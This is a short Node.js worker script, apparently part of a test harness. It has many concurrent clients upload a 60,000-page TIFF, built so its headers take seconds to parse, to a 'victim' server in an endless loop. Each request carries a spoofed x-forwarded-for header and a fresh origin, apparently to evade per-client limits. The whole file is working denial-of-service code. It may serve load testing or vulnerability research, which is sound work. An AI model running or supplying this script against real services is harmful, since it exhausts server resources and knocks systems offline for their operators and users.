// Clients of one network that upload images whose headers take seconds to read, in a thread of their own.
import { parentPort, workerData } from 'node:worker_threads'
import { createPagedTiff } from '../lib/createPagedTiff.mjs'
import { upload } from '../lib/upload.mjs'

const { clients, victim } = workerData
const tiff = createPagedTiff(60_000)

/** Uploads over and over, each time as a page with a new origin. */
async function attack(index) {
  for (let round = 0; ; round++) {
    const headers = { 'x-forwarded-for': '198.51.100.1', origin: `https://${index}-${round}.example` }
    await upload(victim, tiff, { name: 'a.tif', headers }).catch(() => {})
  }
}

parentPort?.once('message', () => process.exit(0))
await Promise.all(Array.from({ length: clients }, (_, index) => attack(index)))
